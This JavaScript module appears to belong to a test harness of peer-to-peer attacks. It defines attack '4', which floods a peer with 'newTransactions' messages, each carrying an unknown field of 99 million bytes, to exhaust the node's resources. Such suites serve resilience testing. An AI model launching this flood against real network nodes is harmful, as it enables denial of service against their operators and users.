// Row 4: transactions with an unknown field of 99 million numbers.
import { flood } from '../flood.mjs';
import { COMMAND, notify } from '../peer.mjs';
import { body, u8Array } from '../storage.mjs';

/** @import { Attack } from '../attack.d.ts' */

const NUMBERS = 99_000_000;

/** @type {readonly Attack[]} */
export const attacks = [
  {
    id: '4',
    kind: 'p2p',
    what: 'an unknown field of 99 million numbers',
    run: flood(1, () =>
      notify(COMMAND.newTransactions, body([u8Array('x', Buffer.alloc(NUMBERS))])),
    ),
  },
];
